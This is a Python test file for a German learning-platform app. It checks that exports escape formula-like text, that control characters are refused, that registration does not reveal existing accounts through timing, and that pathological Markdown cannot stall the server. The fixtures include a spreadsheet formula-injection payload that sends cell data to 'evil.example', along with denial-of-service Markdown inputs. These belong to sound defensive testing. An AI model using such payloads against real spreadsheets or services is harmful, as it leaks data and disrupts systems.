"""What a determined user, a hostile file and an odd request tried: exports
never carry a formula or break on control characters, registration does not
reveal who has an account, odd numbers and dates never give a 500, and
Markdown cannot stall a worker."""
import csv
import io
import statistics
import time
import zipfile

import pytest
from openpyxl import load_workbook

from lms import accounts, create_app
from lms.models import Unit, User

from .conftest import app_config
from .helpers import PASSWORD, Browser, make_user

FORMULA_NAME = '=HYPERLINK("http://evil.example/?d="&B2,"Details")'
FORMULA_STARTS = ["=1+1", "+49 170", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]


@pytest.fixture
def as_executive(app):
    executive = make_user("lavo@example.org", "Lea Vorstand", is_executive=True)
    browser = Browser(app.test_client())
    browser.login(executive.email)
    return browser


def people_with_names(names):
    for number, name in enumerate(names):
        make_user(f"p{number}@example.org", name, unit_name="Köln")


def xlsx_cells(data):
    sheet = load_workbook(io.BytesIO(data)).active
    return [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]


def raw_sheet(data):
    return zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()


# --- exports ----------------------------------------------------------------------------------


@pytest.mark.parametrize("export", ["/dashboard/people.xlsx", "/dashboard/units.xlsx"])
def test_xlsx_exports_write_formula_like_text_as_text(as_executive, export):
    people_with_names([FORMULA_NAME] + FORMULA_STARTS)
    response = as_executive.get(export)
    assert response.status_code == 200
    assert "<f>" not in raw_sheet(response.data)  # no cell holds a formula
    texts = [value for row in xlsx_cells(response.data) for value, kind in row if kind == "s"]
    if export.startswith("/dashboard/people"):
        assert FORMULA_NAME in texts
    else:
        assert any(FORMULA_NAME in text for text in texts)  # the officers column of Köln
    assert not [value for row in xlsx_cells(response.data) for value, kind in row if kind == "f"]


@pytest.mark.parametrize("export", ["/dashboard/people.csv", "/dashboard/units.csv"])
def test_csv_exports_put_an_apostrophe_before_formula_like_text(as_executive, export):
    people_with_names([FORMULA_NAME] + FORMULA_STARTS)
    text = as_executive.get(export).data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    if export.startswith("/dashboard/people"):
        assert "'" + FORMULA_NAME in cells and "'+49 170" in cells and "'\tTab" in cells
    else:
        assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_names_with_control_characters_are_refused(logged_in, learner):
    response = logged_in.submit("/account", {"name": "Ben\x01Lerner"})
    assert response.status_code == 400
    assert "unsichtbare Steuerzeichen" in response.get_data(as_text=True)
    assert User.get_by_id(learner.id).name == learner.name


def test_every_free_text_field_refuses_control_characters(app, client, as_executive):
    response = client.submit("/register", {"name": "Neu\x07", "email": "neu@example.org", "password": PASSWORD,
                                           "password_confirm": PASSWORD, "unit": str(Unit.get().id),
                                           "function": "other", "consent": "y"})
    assert "unsichtbare Steuerzeichen" in response.get_data(as_text=True)
    response = as_executive.submit("/dashboard/units/manage", {"name": "Zyxw\x1bland", "kind": "UB", "region": "X"})
    assert "unsichtbare Steuerzeichen" in response.get_data(as_text=True)
    assert not Unit.select().where(Unit.name.contains("Zyxw")).exists()


def test_multi_line_fields_keep_line_breaks_but_refuse_other_control_characters(app):
    from lms.authoring.forms import LessonForm

    with app.test_request_context(method="POST", data={"title": "T", "minutes": "5", "goals": "Ziel\r\nZwei",
                                                        "body": "Text\n\tmit Tab\r\n"}):
        form = LessonForm(meta={"csrf": False})
        assert form.validate(), form.errors
    with app.test_request_context(method="POST", data={"title": "T", "minutes": "5", "goals": "Ziel",
                                                        "body": "Text \x00 Null"}):
        form = LessonForm(meta={"csrf": False})
        assert not form.validate() and "unsichtbare Steuerzeichen" in form.body.errors[0]


@pytest.mark.parametrize("export", ["/dashboard/people.xlsx", "/dashboard/units.xlsx", "/dashboard/people.csv",
                                    "/dashboard/units.csv"])
def test_exports_strip_control_characters_from_existing_data(as_executive, export):
    people_with_names(["Ben\x01Lerner", "Zoe\x0bZweite"])  # written before input was checked
    response = as_executive.get(export)
    assert response.status_code == 200
    content = raw_sheet(response.data) if export.endswith("xlsx") else response.data.decode("utf-8-sig")
    assert "BenLerner" in content and "ZoeZweite" in content
    assert "\x01" not in content and "\x0b" not in content


# --- registration does not reveal who has an account -----------------------------------------


def _register(client, email):
    started = time.perf_counter()
    response = client.submit("/register", {"name": "Neu", "email": email, "password": PASSWORD,
                                           "password_confirm": PASSWORD, "unit": str(Unit.get().id),
                                           "function": "other", "consent": "y"})
    return response, time.perf_counter() - started


def test_registration_does_the_same_work_for_a_taken_and_a_new_address(app, client, monkeypatch):
    make_user("vergeben@example.org")
    work = []
    monkeypatch.setattr(accounts, "hash_password", lambda password: work.append("hash") or "x")
    monkeypatch.setattr("lms.auth.routes.send_mail_later", lambda *args, **kwargs: work.append("mail"))
    taken, _ = _register(client, "vergeben@example.org")
    work_taken, work[:] = list(work), []
    new, _ = _register(client, "frei@example.org")
    assert work_taken == work == ["hash", "mail"]
    assert (taken.status_code, taken.headers["Location"]) == (new.status_code, new.headers["Location"])


def test_registration_takes_as_long_for_a_taken_address_as_for_a_new_one(tmp_path, template_database, mail_sink):
    """Measured through the app with mail sent in the background, as in
    production: medians of interleaved runs agree within a third (they were
    19 ms against 210 ms before)."""
    import shutil

    path = tmp_path / "timing.sqlite3"
    shutil.copy(template_database, path)
    app = create_app(app_config(path, mail_sink, MAIL_IN_BACKGROUND=True))
    with app.app_context():
        for number in range(9):
            make_user(f"vergeben{number}@example.org")
    client = Browser(app.test_client())
    _register(client, "warmup@example.org")
    taken, new = [], []
    for number in range(9):
        taken.append(_register(client, f"vergeben{number}@example.org")[1])
        new.append(_register(client, f"frei{number}@example.org")[1])
    app.extensions["lms_outbox"].flush(timeout=10)
    ratio = statistics.median(taken) / statistics.median(new)
    assert 0.75 < ratio < 1.33, (statistics.median(taken), statistics.median(new))


def test_an_ordering_answer_with_an_odd_position_is_asked_again_not_a_500(logged_in):
    from .quiz_helpers import correct_form, start_quiz

    attempt = start_quiz(logged_in, "demo", "grundlagen")
    form = correct_form(attempt)
    ordering = next(q for q in attempt.questions if q["type"] == "ordering")
    form[f"q-{ordering['id']}-{ordering['correct_order'][0]}"] = "²"
    response = logged_in.submit(f"/quiz/attempt/{attempt.token}", form)
    assert response.status_code == 400
    assert "Bitte gib jedem Eintrag eine Position." in response.get_data(as_text=True)


# --- Markdown cannot stall a worker ------------------------------------------------------------

STALLING = {
    "brackets": "[" * 20_000,
    "divs": "<div>" * 30_000,
    "nested lists": "".join("  " * depth + "- Punkt\n" for depth in range(1_000)),
    "nested lists (four spaces)": "".join("    " * depth + "- Punkt\n" for depth in range(500)),
    "link openers": "[a](" * 10_000,
    "scattered brackets": "[x" * 20_000,
    "parentheses": "(" * 20_000,
}


@pytest.fixture
def as_trainer(app):
    trainer = make_user("trainer@example.org", is_trainer=True)
    browser = Browser(app.test_client())
    browser.login(trainer.email)
    return browser


@pytest.mark.parametrize("name", STALLING)
def test_the_preview_renders_or_refuses_stalling_markdown_within_two_seconds(as_trainer, name):
    started = time.perf_counter()
    response = as_trainer.submit("/author/demo/preview", {"body": STALLING[name]}, page="/author/demo/")
    assert time.perf_counter() - started < 2, name
    assert response.status_code == 200
    assert "Keine Vorschau" in response.get_data(as_text=True), name


@pytest.mark.parametrize("name", ["brackets", "divs", "nested lists"])
def test_a_lesson_with_stalling_markdown_is_refused_with_the_line(as_trainer, name):
    started = time.perf_counter()
    response = as_trainer.submit("/author/demo/lessons/grundlagen/erste-schritte",
                                 {"title": "Erste Schritte", "minutes": "5", "goals": "Ein Ziel",
                                  "body": "## Abschnitt\n\n" + STALLING[name]},
                                 page="/author/demo/lessons/grundlagen/erste-schritte")
    assert time.perf_counter() - started < 2, name
    html = response.get_data(as_text=True)
    assert response.status_code in (200, 400) and ("erlaubt sind höchstens" in html or "hintereinander" in html
                                                  or "verschachtelt" in html), name
    assert "Gespeichert" not in html


def test_the_loader_refuses_stalling_markdown_with_file_and_line(tmp_path):
    import shutil

    from lms.content.loader import read_content
    from lms.content.source import ContentErrors

    from .conftest import FIXTURE_COURSE, FIXTURE_QUIZZES

    shutil.copytree(FIXTURE_COURSE, tmp_path / "course")
    shutil.copytree(FIXTURE_QUIZZES, tmp_path / "quizzes")
    lesson = tmp_path / "course" / "demo" / "01-grundlagen" / "01-erste-schritte.md"
    lesson.write_text(lesson.read_text(encoding="utf-8") + "\n" + "[" * 250 + "\n", encoding="utf-8")
    with pytest.raises(ContentErrors) as raised:
        read_content(tmp_path / "course", tmp_path / "quizzes")
    [error] = raised.value.errors
    assert error.path.endswith("01-erste-schritte.md") and error.line == len(lesson.read_text().splitlines())
    assert "über 200-mal hintereinander" in error.message


def test_ordinary_long_markdown_still_renders(app):
    from lms.content.rendering import render_markdown

    table = "| A | B |\n|---|---|\n" + "| [Link](https://example.org) | *kursiv* (Klammer) |\n" * 600
    started = time.perf_counter()
    html = render_markdown("## Tabelle\n\n" + table)
    assert time.perf_counter() - started < 2
    assert html.count("<tr>") == 601
